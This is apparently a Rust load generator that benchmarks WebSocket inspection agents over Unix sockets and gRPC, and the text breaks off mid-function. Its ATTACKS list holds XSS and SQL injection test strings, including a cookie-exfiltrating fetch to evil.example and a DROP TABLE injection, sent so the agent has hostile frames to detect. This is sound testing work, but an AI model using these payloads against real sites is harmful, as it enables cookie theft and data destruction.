//! Load generator for WebSocket inspection agents that speak the Sentinel / Zentinel agent protocol
//! over a Unix socket, and a bare echo server that is the transport floor to compare them against.
//!
//! ```text
//! cargo run --release --example loadgen -- --socket /tmp/x.sock --protocol v1 --connections 8 \
//!     --duration 10 --mix chat=100 [--pid PID | --agent-cmd "CMD"] [--json]
//! cargo run --release --example loadgen -- --socket /tmp/x.sock --protocol v2 --connections 4 \
//!     --in-flight 16 --duration 10 --mix chat=70,json=20,binary=5,fragmented=3,attack=2
//! cargo run --release --example loadgen -- --protocol grpc-v1 --grpc-address 127.0.0.1:50151 \
//!     --connections 2 --in-flight 32 --duration 10 [--pid PID | --agent-cmd "CMD"]
//! cargo run --release --example loadgen -- --echo-server /tmp/echo.sock
//! cargo run --release --example loadgen -- --socket /tmp/x.sock --connections-only 100000 --pid PID
//! ```
//!
//! The client side of the UDS wire is written here from the protocol reference (it does not use
//! this crate), so any agent binary that speaks it can be measured the same way:
//! - **v1**: `[u32 BE length][JSON]`, the request `{"version":1,"event_type":"web_socket_frame",
//!   "payload":{...}}`, one request in flight per connection, the answer a JSON `AgentResponse`
//!   whose `version` must be 1 and whose `websocket_decision` is the verdict.
//! - **v2**: `[u32 BE length counting the type byte][type][JSON]`; handshake 0x01 -> 0x02, frames
//!   0x15, answers 0x20 matched by `audit.custom.correlation_id`; health (0x30) and metrics (0x31)
//!   reports and anything else unsolicited are skipped. K requests in flight per connection.
//!
//! - **grpc-v1**: unary `sentinel.agent.v1.AgentProcessor/ProcessEvent` calls on `--grpc-address`
//!   (the gRPC path on which Sentinel can send frames), K calls in flight per HTTP/2 connection,
//!   the verdict in `AgentResponse` fields 30-32. Its messages are the ones generated from this
//!   crate's `proto/agent_v1.proto` (the upstream package, field numbers and types).
//!
//! Every in-flight request of a connection has its own correlation id, and every WebSocket (a
//! correlation id, both directions) belongs to exactly one request slot, so the frames of one
//! WebSocket and direction are sent strictly in order (fragments: `text` fin=false, then
//! `continuation`s) with at most one in flight, as the proxies do.
//!
//! Latency is measured from the moment a request is queued for writing to the moment its answer
//! is parsed, into a log-bucketed histogram (relative error under 0.4%).

use std::collections::{BTreeMap, HashMap, VecDeque};
use std::io::Write as _;
use std::os::unix::fs::FileTypeExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitCode, Stdio};
use std::sync::atomic::{AtomicI64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::Engine as _;
use clap::{Parser, ValueEnum};
use serde::de::IgnoredAny;
use serde::Deserialize;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt, BufReader, BufWriter};
use tokio::net::{UnixListener, UnixStream};

/// v2 message types used here (protocol reference, section 1.4).
const HANDSHAKE_REQUEST: u8 = 0x01;
const HANDSHAKE_RESPONSE: u8 = 0x02;
const WEBSOCKET_FRAME: u8 = 0x15;
const CONFIGURE: u8 = 0x17;
const AGENT_RESPONSE: u8 = 0x20;
const CANCEL: u8 = 0x40;
const PING: u8 = 0x41;
const PONG: u8 = 0x42;
/// Largest v2 message (length including the type byte) and largest v1 message.
const V2_MAX_MESSAGE: usize = 16 * 1024 * 1024;
const V1_MAX_MESSAGE: usize = 10 * 1024 * 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Protocol {
    /// Length-prefixed JSON, one request in flight per connection (Sentinel 0.4.x).
    V1,
    /// Binary UDS with handshake and correlation ids (Zentinel 0.6.54+).
    V2,
    /// gRPC `sentinel.agent.v1.AgentProcessor/ProcessEvent` on --grpc-address: K concurrent
    /// calls per HTTP/2 connection.
    #[value(name = "grpc-v1")]
    GrpcV1,
}

impl Protocol {
    fn name(self) -> &'static str {
        match self {
            Protocol::V1 => "v1",
            Protocol::V2 => "v2",
            Protocol::GrpcV1 => "grpc-v1",
        }
    }
}

/// Drives a WebSocket inspection agent over its Unix socket (or serves as the echo floor).
#[derive(Debug, Parser)]
#[command(name = "loadgen", version)]
struct Args {
    /// The agent's Unix socket.
    #[arg(long, default_value = "/tmp/sentinel-ws.sock")]
    socket: PathBuf,
    /// Wire protocol to speak.
    #[arg(long, value_enum, default_value_t = Protocol::V1)]
    protocol: Protocol,
    /// The agent's gRPC address, for --protocol grpc-v1 (the agent's --grpc-address).
    #[arg(long, value_name = "HOST:PORT", default_value = "127.0.0.1:50151")]
    grpc_address: String,
    /// Transport connections to the agent (HTTP/2 connections for grpc-v1).
    #[arg(long, default_value_t = 8)]
    connections: usize,
    /// Requests in flight per connection (v2 and grpc-v1; v1 is always 1).
    #[arg(long, default_value_t = 1)]
    in_flight: usize,
    /// Distinct WebSocket correlation ids (at least connections x in-flight).
    #[arg(long, default_value_t = 1000)]
    websockets: usize,
    /// Seconds to measure (after the warm-up); the default when --frames is not given is 10.
    #[arg(long, conflicts_with = "frames")]
    duration: Option<f64>,
    /// Frames to measure (after the warm-up) instead of a duration.
    #[arg(long)]
    frames: Option<u64>,
    /// Seconds of load before measuring.
    #[arg(long, default_value_t = 1.0)]
    warmup: f64,
    /// Message mix as weights: chat (text), json (text), binary, fragmented (a JSON message sent
    /// as text fin=false + continuations), attack (XSS / SQL injection text).
    #[arg(long, default_value = "chat=70,json=20,binary=5,fragmented=3,attack=2")]
    mix: String,
    /// Bytes of a chat message.
    #[arg(long, default_value_t = 100)]
    chat_size: usize,
    /// Bytes of a JSON message (and of a fragmented message).
    #[arg(long, default_value_t = 1024)]
    json_size: usize,
    /// Bytes of a binary message.
    #[arg(long, default_value_t = 16 * 1024)]
    binary_size: usize,
    /// Frames of a fragmented message.
    #[arg(long, default_value_t = 3, value_parser = clap::value_parser!(u32).range(2..))]
    fragments: u32,
    /// The agent's process id, to read its RSS (VmRSS) before and after.
    #[arg(long, conflicts_with = "agent_cmd")]
    pid: Option<u32>,
    /// Start the agent with this shell command (it must serve --socket), measure, then stop it.
    #[arg(long)]
    agent_cmd: Option<String>,
    /// Where the started agent's standard error goes (default: discarded).
    #[arg(long)]
    agent_log: Option<PathBuf>,
    /// After the run, wait this many seconds and read the agent's RSS again (eviction).
    #[arg(long, default_value_t = 0.0)]
    settle: f64,
    /// Milliseconds without any answer, while requests are in flight, after which a connection
    /// gives up (its in-flight requests count as timeouts).
    #[arg(long, default_value_t = 5_000)]
    timeout_ms: u64,
    /// Load generator threads (default: the number of CPUs).
    #[arg(long)]
    threads: Option<usize>,
    /// Prefix of the correlation ids (default: unique per run, so runs against one agent do not
    /// reuse its tracked connections).
    #[arg(long)]
    id_prefix: Option<String>,
    /// Seed of the message choice.
    #[arg(long, default_value_t = 1)]
    seed: u64,
    /// The `route_id` every frame carries (an agent with --policy-file picks its route policy
    /// by it); letters, digits, `-`, `_`, `.` and `*`-free.
    #[arg(long, default_value = "loadgen", value_parser = parse_route_id)]
    route_id: String,
    /// Print one JSON object instead of text.
    #[arg(long)]
    json: bool,
    /// Instead of driving an agent, serve the bare echo server (allow to everything, v1 and v2 on
    /// the same socket) on this path.
    #[arg(long, value_name = "PATH")]
    echo_server: Option<PathBuf>,
    /// Open N distinct correlation ids with one small frame each (memory per tracked connection).
    #[arg(long, value_name = "N")]
    connections_only: Option<usize>,
}

/// A route id that needs no JSON escaping.
fn parse_route_id(value: &str) -> Result<String, String> {
    if !value.is_empty()
        && value.len() <= 64
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
    {
        Ok(value.to_owned())
    } else {
        Err("use 1 to 64 letters, digits, `-`, `_` or `.`".into())
    }
}

fn main() -> ExitCode {
    let args = Args::parse();
    let threads = args
        .threads
        .unwrap_or_else(|| std::thread::available_parallelism().map_or(2, |n| n.get()));
    let runtime = match tokio::runtime::Builder::new_multi_thread()
        .worker_threads(threads.max(1))
        .enable_all()
        .build()
    {
        Ok(runtime) => runtime,
        Err(error) => {
            eprintln!("loadgen: cannot start the runtime: {error}");
            return ExitCode::FAILURE;
        }
    };
    let result = match args.echo_server.clone() {
        Some(path) => runtime.block_on(echo_server(path)),
        None => runtime.block_on(drive(args)),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(message) => {
            eprintln!("loadgen: {message}");
            ExitCode::FAILURE
        }
    }
}

// ------------------------------------------------------------------------------------------------
// Histogram

/// Linear buckets below 2^SUB_BITS, then 2^(SUB_BITS-1) buckets per power of two: the value of a
/// bucket is within 1/2^(SUB_BITS-1) of every value in it (0.4% for 9 bits).
const SUB_BITS: u32 = 9;
const HALF: usize = 1 << (SUB_BITS - 1);
const BUCKETS: usize = (64 - SUB_BITS as usize + 2) * HALF;

/// A fixed log-bucketed histogram of nanoseconds (HdrHistogram-like, no allocation per value).
#[derive(Clone)]
struct Histogram {
    counts: Vec<u64>,
    total: u64,
    sum: u128,
    max: u64,
}

impl Histogram {
    fn new() -> Self {
        Histogram {
            counts: vec![0; BUCKETS],
            total: 0,
            sum: 0,
            max: 0,
        }
    }

    fn index(value: u64) -> usize {
        if value < (1 << SUB_BITS) {
            return value as usize;
        }
        let msb = 63 - value.leading_zeros();
        let shift = msb - (SUB_BITS - 1);
        let top = (value >> shift) as usize; // in [HALF, 2*HALF)
        (shift as usize) * HALF + top
    }

    /// The middle of bucket `index`.
    fn value_of(index: usize) -> u64 {
        if index < (1 << SUB_BITS) {
            return index as u64;
        }
        let shift = index / HALF - 1;
        let top = (index % HALF + HALF) as u64;
        (top << shift) + ((1u64 << shift) >> 1)
    }

    fn record(&mut self, nanos: u64) {
        self.counts[Self::index(nanos)] += 1;
        self.total += 1;
        self.sum += u128::from(nanos);
        self.max = self.max.max(nanos);
    }

    fn merge(&mut self, other: &Histogram) {
        for (a, b) in self.counts.iter_mut().zip(&other.counts) {
            *a += b;
        }
        self.total += other.total;
        self.sum += other.sum;
        self.max = self.max.max(other.max);
    }

    /// The value at quantile `q` (0..=1), in nanoseconds.
    fn quantile(&self, q: f64) -> u64 {
        if self.total == 0 {
            return 0;
        }
        let rank = ((q * self.total as f64).ceil() as u64).clamp(1, self.total);
        let mut seen = 0;
        for (index, count) in self.counts.iter().enumerate() {
            seen += count;
            if seen >= rank {
                return Self::value_of(index).min(self.max);
            }
        }
        self.max
    }

    fn mean(&self) -> f64 {
        if self.total == 0 {
            0.0
        } else {
            self.sum as f64 / self.total as f64
        }
    }
}

// ------------------------------------------------------------------------------------------------
// The message mix and the frames it produces

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    Chat,
    Json,
    Binary,
    Fragmented,
    Attack,
}

impl Kind {
    const ALL: [Kind; 5] = [
        Kind::Chat,
        Kind::Json,
        Kind::Binary,
        Kind::Fragmented,
        Kind::Attack,
    ];

    fn name(self) -> &'static str {
        match self {
            Kind::Chat => "chat",
            Kind::Json => "json",
            Kind::Binary => "binary",
            Kind::Fragmented => "fragmented",
            Kind::Attack => "attack",
        }
    }
}

fn parse_mix(text: &str) -> Result<Vec<(Kind, u32)>, String> {
    let mut mix = Vec::new();
    for part in text.split(',').map(str::trim).filter(|p| !p.is_empty()) {
        let (name, weight) = part
            .split_once('=')
            .ok_or_else(|| format!("--mix: `{part}` is not NAME=WEIGHT"))?;
        let kind = Kind::ALL
            .into_iter()
            .find(|k| k.name() == name.trim())
            .ok_or_else(|| {
                format!("--mix: unknown kind `{name}` (chat, json, binary, fragmented, attack)")
            })?;
        let weight: u32 = weight
            .trim()
            .parse()
            .map_err(|_| format!("--mix: weight of `{name}` is not a whole number"))?;
        if weight > 0 {
            mix.push((kind, weight));
        }
    }
    if mix.is_empty() {
        return Err("--mix: no kind with a weight above 0".into());
    }
    Ok(mix)
}

/// One frame of a message template; the payload is an index into the corpus.
#[derive(Debug, Clone, Copy)]
struct FrameTemplate {
    opcode: &'static str,
    fin: bool,
    payload: usize,
}

/// Payloads (base64 for the JSON protocols, raw bytes for gRPC) and the messages built from them.
struct Corpus {
    payloads: Vec<String>,
    raw: Vec<Vec<u8>>,
    raw_sizes: Vec<usize>,
    /// Variants per kind; a variant is the frames of one message.
    messages: BTreeMap<Kind, Vec<Vec<FrameTemplate>>>,
    mix: Vec<(Kind, u32)>,
    mix_total: u32,
}

const CHAT_LINES: [&str; 8] = [
    "Hey, are we still on for lunch at noon? I can bring the slides for the quarterly review.",
    "Sounds good to me. Let me check with the team and get back to you in about ten minutes.",
    "The build on main is green again; the flaky test was a timezone issue in the fixtures.",
    "Can someone review my pull request before the release branch is cut this afternoon?",
    "I'm running a bit late, traffic on the bridge is terrible. Start without me please.",
    "Thanks for the update! The new dashboard looks great, especially the latency graphs.",
    "Reminder: the office is closed on Friday, so the weekly sync moves to Thursday at 3pm.",
    "Did anyone see the customer ticket about the websocket reconnects? Looks like a proxy.",
];

const ATTACKS: [&str; 8] = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "' OR '1'='1' --",
    "admin' UNION SELECT username, password FROM users--",
    "1; DROP TABLE users; --",
    "' AND 1=(SELECT COUNT(*) FROM information_schema.tables) --",
];

/// A text of exactly `size` bytes made of the chat lines (ASCII).
fn filler(size: usize, salt: usize) -> String {
    let mut text = String::with_capacity(size + 128);
    let mut i = salt;
    while text.len() < size {
        text.push_str(CHAT_LINES[i % CHAT_LINES.len()]);
        text.push(' ');
        i += 1;
    }
    text.truncate(size);
    text
}

/// A JSON chat event of about `size` bytes (exactly, when `size` allows the envelope).
fn json_message(size: usize, seq: usize) -> String {
    let head = format!(
        r#"{{"type":"chat.message","seq":{seq},"room":"general","user":{{"id":{},"name":"user{}"}},"tags":["team","q3"],"body":""#,
        1000 + seq * 7,
        seq % 97
    );
    let tail = "\"}";
    let body = size.saturating_sub(head.len() + tail.len()).max(1);
    format!("{head}{}{tail}", filler(body, seq))
}

struct XorShift(u64);

impl XorShift {
    fn new(seed: u64) -> Self {
        XorShift(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

impl Corpus {
    fn build(args: &Args, mix: Vec<(Kind, u32)>) -> Corpus {
        let mut corpus = Corpus {
            payloads: Vec::new(),
            raw: Vec::new(),
            raw_sizes: Vec::new(),
            messages: BTreeMap::new(),
            mix_total: mix.iter().map(|(_, w)| w).sum(),
            mix,
        };
        let mut rng = XorShift::new(0x5eed);
        for (kind, _) in corpus.mix.clone() {
            let mut variants = Vec::new();
            for v in 0..8 {
                let frames = match kind {
                    Kind::Chat => {
                        let text = filler(args.chat_size, v);
                        vec![corpus.single("text", text.as_bytes())]
                    }
                    Kind::Json => {
                        let text = json_message(args.json_size, v);
                        vec![corpus.single("text", text.as_bytes())]
                    }
                    Kind::Binary => {
                        let bytes: Vec<u8> = (0..args.binary_size)
                            .map(|_| (rng.next() >> 56) as u8)
                            .collect();
                        vec![corpus.single("binary", &bytes)]
                    }
                    Kind::Attack => {
                        let text = format!(
                            r#"{{"type":"chat.message","room":"general","body":"{}"}}"#,
                            ATTACKS[v % ATTACKS.len()].replace('"', "\\\"")
                        );
                        vec![corpus.single("text", text.as_bytes())]
                    }
                    Kind::Fragmented => {
                        let text = json_message(args.json_size, 100 + v);
                        let bytes = text.as_bytes();
                        let n = args.fragments as usize;
                        let step = bytes.len().div_ceil(n).max(1);
                        let mut frames = Vec::new();
                        for (i, chunk) in bytes.chunks(step).enumerate() {
                            let opcode = if i == 0 { "text" } else { "continuation" };
                            let mut frame = corpus.single(opcode, chunk);
                            frame.fin = false;
                            frames.push(frame);
                        }
                        if let Some(last) = frames.last_mut() {
                            last.fin = true;
                        }
                        frames
                    }
                };
                variants.push(frames);
            }
            corpus.messages.insert(kind, variants);
        }
        corpus
    }

    fn single(&mut self, opcode: &'static str, raw: &[u8]) -> FrameTemplate {
        self.payloads
            .push(base64::engine::general_purpose::STANDARD.encode(raw));
        self.raw.push(raw.to_vec());
        self.raw_sizes.push(raw.len());
        FrameTemplate {
            opcode,
            fin: true,
            payload: self.payloads.len() - 1,
        }
    }

    /// Picks a message: its kind, direction (client to server?) and frames.
    fn pick(&self, rng: &mut XorShift) -> (Kind, bool, &[FrameTemplate]) {
        let mut r = (rng.next() % u64::from(self.mix_total)) as u32;
        let mut kind = self.mix[0].0;
        for &(k, w) in &self.mix {
            if r < w {
                kind = k;
                break;
            }
            r -= w;
        }
        let variants = &self.messages[&kind];
        let frames = &variants[rng.below(variants.len())];
        let c2s = kind == Kind::Attack || rng.next() & 1 == 0;
        (kind, c2s, frames)
    }
}

// ------------------------------------------------------------------------------------------------
// Wire encoding and decoding (client side)

fn begin_message(out: &mut Vec<u8>, protocol: Protocol, v2_type: u8) -> usize {
    let start = out.len();
    out.extend_from_slice(&[0; 4]);
    if protocol == Protocol::V2 {
        out.push(v2_type);
    }
    start
}

fn end_message(out: &mut [u8], start: usize) {
    let length = (out.len() - start - 4) as u32;
    out[start..start + 4].copy_from_slice(&length.to_be_bytes());
}

/// Appends one frame event request.
#[allow(clippy::too_many_arguments)]
fn encode_frame(
    out: &mut Vec<u8>,
    protocol: Protocol,
    route_id: &str,
    correlation_id: &str,
    frame: &FrameTemplate,
    data: &str,
    c2s: bool,
    frame_index: u64,
) {
    let start = begin_message(out, protocol, WEBSOCKET_FRAME);
    if protocol == Protocol::V1 {
        out.extend_from_slice(br#"{"version":1,"event_type":"web_socket_frame","payload":"#);
    }
    // The ids, opcodes and base64 written here need no JSON escaping.
    let _ = write!(
        out,
        r#"{{"correlation_id":"{correlation_id}","opcode":"{}","data":"{data}","client_to_server":{c2s},"frame_index":{frame_index},"fin":{},"route_id":"{route_id}","client_ip":"127.0.0.1"}}"#,
        frame.opcode, frame.fin
    );
    if protocol == Protocol::V1 {
        out.push(b'}');
    }
    end_message(out, start);
}

#[derive(Deserialize)]
struct WireResponse<'a> {
    #[serde(default)]
    version: Option<u64>,
    #[serde(default)]
    decision: Option<IgnoredAny>,
    #[serde(default, borrow)]
    websocket_decision: Option<WireWsDecision<'a>>,
    #[serde(default, borrow)]
    audit: Option<WireAudit<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "snake_case")]
enum WireWsDecision<'a> {
    Allow,
    Drop,
    Close {
        code: u16,
        #[serde(borrow)]
        #[allow(dead_code)]
        reason: std::borrow::Cow<'a, str>,
    },
}

#[derive(Deserialize)]
struct WireAudit<'a> {
    #[serde(default, borrow)]
    custom: Option<WireCustom<'a>>,
}

#[derive(Deserialize)]
struct WireCustom<'a> {
    #[serde(default, borrow)]
    correlation_id: Option<std::borrow::Cow<'a, str>>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
enum Decision {
    Allow,
    /// No `websocket_decision` (the proxies treat it as allow).
    Absent,
    Drop,
    Close(u16),
}

impl Decision {
    fn label(self) -> String {
        match self {
            Decision::Allow => "allow".into(),
            Decision::Absent => "absent (allow)".into(),
            Decision::Drop => "drop".into(),
            Decision::Close(code) => format!("close {code}"),
        }
    }
}

// ------------------------------------------------------------------------------------------------
// Driving

/// What every connection task shares.
struct RunContext {
    protocol: Protocol,
    grpc_address: String,
    corpus: Corpus,
    ids: Vec<String>,
    /// The `route_id` of every frame.
    route_id: String,
    /// When measuring starts (after the warm-up).
    measure_start: Instant,
    /// When sending stops (duration mode).
    end: Option<Instant>,
    /// Measured frames left to send (frames mode).
    budget: Option<AtomicI64>,
    /// Each slot sends one frame to each of its WebSockets, then stops (--connections-only).
    one_pass: bool,
    timeout: Duration,
    seed: u64,
}

/// One WebSocket's generator state.
struct WsState {
    id: usize,
    frame_index: [u64; 2],
    pending: VecDeque<(bool, FrameTemplate)>,
}

struct InFlight {
    sent: Instant,
    measured: bool,
}

/// A frame a slot is about to send.
struct NextFrame {
    /// Index into `RunContext::ids`.
    websocket: usize,
    frame: FrameTemplate,
    c2s: bool,
    frame_index: u64,
}

/// A request slot: the WebSockets it owns (in turn) and its one request in flight.
struct Slot {
    websockets: Vec<usize>,
    next: usize,
    in_flight: Option<InFlight>,
    done: bool,
}

/// What a connection task measured.
struct ConnResult {
    histogram: Histogram,
    frames: u64,
    payload_bytes: u64,
    decisions: HashMap<Decision, u64>,
    errors: BTreeMap<&'static str, u64>,
    first_error: Option<String>,
    last_completion: Option<Instant>,
    sent: u64,
}

impl ConnResult {
    fn new() -> Self {
        ConnResult {
            histogram: Histogram::new(),
            frames: 0,
            payload_bytes: 0,
            decisions: HashMap::new(),
            errors: BTreeMap::new(),
            first_error: None,
            last_completion: None,
            sent: 0,
        }
    }

    fn error(&mut self, kind: &'static str, count: u64, detail: impl FnOnce() -> String) {
        *self.errors.entry(kind).or_default() += count;
        if self.first_error.is_none() {
            self.first_error = Some(format!("{kind}: {}", detail()));
        }
    }
}

struct Connection<'a> {
    ctx: &'a RunContext,
    rng: XorShift,
    websockets: Vec<WsState>,
    slots: Vec<Slot>,
    /// Correlation id -> (local WebSocket index, slot) for matching v2 answers.
    by_id: HashMap<&'a str, usize>,
    /// Local WebSocket index -> slot.
    owner: Vec<usize>,
    result: ConnResult,
    in_flight: usize,
    /// Payload bytes of the request in flight, per slot.
    in_flight_bytes: Vec<u64>,
}

impl<'a> Connection<'a> {
    fn new(ctx: &'a RunContext, index: usize, slot_websockets: Vec<Vec<usize>>) -> Self {
        let mut websockets = Vec::new();
        let mut slots = Vec::new();
        let mut owner = Vec::new();
        let mut by_id = HashMap::new();
        for (slot_index, ids) in slot_websockets.into_iter().enumerate() {
            let mut local = Vec::with_capacity(ids.len());
            for id in ids {
                local.push(websockets.len());
                by_id.insert(ctx.ids[id].as_str(), websockets.len());
                owner.push(slot_index);
                websockets.push(WsState {
                    id,
                    frame_index: [0; 2],
                    pending: VecDeque::new(),
                });
            }
            slots.push(Slot {
                websockets: local,
                next: 0,
                in_flight: None,
                done: false,
            });
        }
        let in_flight_bytes = vec![0; slots.len()];
        Connection {
            ctx,
            rng: XorShift::new(ctx.seed ^ (index as u64 + 1).wrapping_mul(0x1234_5678_9abc)),
            websockets,
            slots,
            by_id,
            owner,
            result: ConnResult::new(),
            in_flight: 0,
            in_flight_bytes,
        }
    }

    /// Queues the next request of `slot` into `out`, if it has one to send.
    fn issue(&mut self, slot_index: usize, out: &mut Vec<u8>) -> bool {
        let ctx = self.ctx;
        let Some(next) = self.next_frame(slot_index) else {
            return false;
        };
        encode_frame(
            out,
            ctx.protocol,
            &ctx.route_id,
            &ctx.ids[next.websocket],
            &next.frame,
            &ctx.corpus.payloads[next.frame.payload],
            next.c2s,
            next.frame_index,
        );
        true
    }

    /// Takes the next frame `slot` is to send (and marks it in flight), if it has one.
    fn next_frame(&mut self, slot_index: usize) -> Option<NextFrame> {
        let ctx = self.ctx;
        let slot = &mut self.slots[slot_index];
        if slot.done || slot.in_flight.is_some() || slot.websockets.is_empty() {
            return None;
        }
        let now = Instant::now();
        if ctx.end.is_some_and(|end| now >= end) {
            slot.done = true;
            return None;
        }
        if ctx.one_pass && slot.next >= slot.websockets.len() {
            slot.done = true;
            return None;
        }
        let measured = now >= ctx.measure_start;
        if measured {
            if let Some(budget) = &ctx.budget {
                if budget.fetch_sub(1, Ordering::Relaxed) <= 0 {
                    slot.done = true;
                    return None;
                }
            }
        }
        let local = slot.websockets[slot.next % slot.websockets.len()];
        slot.next += 1;
        let ws = &mut self.websockets[local];
        if ws.pending.is_empty() {
            let (_, c2s, frames) = ctx.corpus.pick(&mut self.rng);
            ws.pending.extend(frames.iter().map(|f| (c2s, *f)));
        }
        let (c2s, frame) = ws.pending.pop_front().expect("a message has frames");
        let direction = usize::from(!c2s);
        let frame_index = ws.frame_index[direction];
        ws.frame_index[direction] += 1;
        let websocket = ws.id;
        self.in_flight_bytes[slot_index] = ctx.corpus.raw_sizes[frame.payload] as u64;
        slot.in_flight = Some(InFlight {
            sent: Instant::now(),
            measured,
        });
        self.in_flight += 1;
        self.result.sent += 1;
        Some(NextFrame {
            websocket,
            frame,
            c2s,
            frame_index,
        })
    }

    /// Records the answer to `slot`'s request.
    fn complete(&mut self, slot_index: usize, decision: Decision, now: Instant) {
        let Some(request) = self.slots[slot_index].in_flight.take() else {
            self.result.error("unexpected-answer", 1, || {
                "an answer for a request that is not in flight".into()
            });
            return;
        };
        self.in_flight -= 1;
        if request.measured && self.ctx.end.is_none_or(|end| now <= end) {
            let nanos = now.saturating_duration_since(request.sent).as_nanos() as u64;
            self.result.histogram.record(nanos);
            self.result.frames += 1;
            self.result.payload_bytes += self.in_flight_bytes[slot_index];
            *self.result.decisions.entry(decision).or_default() += 1;
            self.result.last_completion = Some(now);
        }
    }

    /// Handles one answer body; returns the slot it completes.
    fn on_answer(&mut self, body: &[u8]) -> Option<(usize, Decision)> {
        let response: WireResponse<'_> = match serde_json::from_slice(body) {
            Ok(response) => response,
            Err(error) => {
                self.result
                    .error("bad-json", 1, || format!("{error}: {}", excerpt(body)));
                return None;
            }
        };
        if response.decision.is_none() {
            self.result
                .error("missing-decision", 1, || excerpt(body).to_string());
        }
        if self.ctx.protocol == Protocol::V1 && response.version != Some(1) {
            self.result
                .error("version-mismatch", 1, || excerpt(body).to_string());
        }
        let decision = match response.websocket_decision {
            None => Decision::Absent,
            Some(WireWsDecision::Allow) => Decision::Allow,
            Some(WireWsDecision::Drop) => Decision::Drop,
            Some(WireWsDecision::Close { code, .. }) => Decision::Close(code),
        };
        let slot = match self.ctx.protocol {
            Protocol::V1 | Protocol::GrpcV1 => 0,
            Protocol::V2 => {
                let id = response
                    .audit
                    .and_then(|a| a.custom)
                    .and_then(|c| c.correlation_id);
                let Some(id) = id else {
                    self.result.error("uncorrelated", 1, || {
                        format!(
                            "answer without audit.custom.correlation_id: {}",
                            excerpt(body)
                        )
                    });
                    return None;
                };
                match self.by_id.get(id.as_ref()) {
                    Some(&local) => self.owner[local],
                    None => {
                        self.result.error("unknown-correlation-id", 1, || {
                            format!("answer for `{}`", excerpt(id.as_bytes()))
                        });
                        return None;
                    }
                }
            }
        };
        Some((slot, decision))
    }
}

fn excerpt(bytes: &[u8]) -> std::borrow::Cow<'_, str> {
    String::from_utf8_lossy(&bytes[..bytes.len().min(200)])
}

/// Runs one transport connection until its slots are done and answered.
async fn run_connection(
    ctx: Arc<RunContext>,
    index: usize,
    slot_websockets: Vec<Vec<usize>>,
    socket: PathBuf,
) -> ConnResult {
    let mut conn = Connection::new(&ctx, index, slot_websockets);
    let driven = match ctx.protocol {
        Protocol::GrpcV1 => grpc::drive_connection(&mut conn).await,
        Protocol::V1 | Protocol::V2 => drive_connection(&mut conn, &socket).await,
    };
    if let Err((kind, detail)) = driven {
        let lost = conn.in_flight as u64;
        conn.result.error(kind, lost.max(1), || detail);
    }
    conn.result
}

type ConnError = (&'static str, String);

async fn drive_connection(conn: &mut Connection<'_>, socket: &Path) -> Result<(), ConnError> {
    let ctx = conn.ctx;
    let mut stream = UnixStream::connect(socket)
        .await
        .map_err(|e| ("connect", format!("{}: {e}", socket.display())))?;
    let mut rbuf: Vec<u8> = Vec::with_capacity(256 * 1024);
    let mut wbuf: Vec<u8> = Vec::with_capacity(256 * 1024);
    if ctx.protocol == Protocol::V2 {
        handshake(&mut stream, &mut rbuf, ctx.timeout).await?;
    }
    for slot in 0..conn.slots.len() {
        conn.issue(slot, &mut wbuf);
    }
    while conn.in_flight > 0 {
        if !wbuf.is_empty() {
            stream
                .write_all(&wbuf)
                .await
                .map_err(|e| ("io", format!("write: {e}")))?;
            wbuf.clear();
        }
        rbuf.reserve(64 * 1024);
        let read = tokio::time::timeout(ctx.timeout, stream.read_buf(&mut rbuf)).await;
        match read {
            Err(_) => {
                return Err((
                    "timeout",
                    format!("no answer within {} ms", ctx.timeout.as_millis()),
                ))
            }
            Ok(Err(e)) => return Err(("io", format!("read: {e}"))),
            Ok(Ok(0)) => return Err(("closed", "the agent closed the connection".into())),
            Ok(Ok(_)) => {}
        }
        let now = Instant::now();
        let mut offset = 0;
        while let Some((body_start, body_end)) = next_message(&rbuf[offset..], ctx.protocol)? {
            let message = &rbuf[offset + body_start..offset + body_end];
            offset += body_end;
            let body = match ctx.protocol {
                Protocol::V1 | Protocol::GrpcV1 => message,
                Protocol::V2 => {
                    if message[0] != AGENT_RESPONSE {
                        // Health, metrics and other reports: not answers.
                        continue;
                    }
                    &message[1..]
                }
            };
            if let Some((slot, decision)) = conn.on_answer(body) {
                conn.complete(slot, decision, now);
                conn.issue(slot, &mut wbuf);
            }
        }
        rbuf.drain(..offset);
    }
    Ok(())
}

/// The bounds of the next complete message in `buf` (after the length prefix), if there is one.
fn next_message(buf: &[u8], protocol: Protocol) -> Result<Option<(usize, usize)>, ConnError> {
    if buf.len() < 4 {
        return Ok(None);
    }
    let length = u32::from_be_bytes([buf[0], buf[1], buf[2], buf[3]]) as usize;
    let max = match protocol {
        Protocol::V1 | Protocol::GrpcV1 => V1_MAX_MESSAGE,
        Protocol::V2 => V2_MAX_MESSAGE,
    };
    if length == 0 || length > max {
        return Err(("framing", format!("bad message length {length}")));
    }
    if buf.len() < 4 + length {
        return Ok(None);
    }
    Ok(Some((4, 4 + length)))
}

async fn handshake(
    stream: &mut UnixStream,
    rbuf: &mut Vec<u8>,
    timeout: Duration,
) -> Result<(), ConnError> {
    let mut out = Vec::new();
    let start = begin_message(&mut out, Protocol::V2, HANDSHAKE_REQUEST);
    out.extend_from_slice(
        br#"{"supported_versions":[2],"proxy_id":"loadgen","proxy_version":"0.1.0","config":null,"supported_encodings":["json"]}"#,
    );
    end_message(&mut out, start);
    stream
        .write_all(&out)
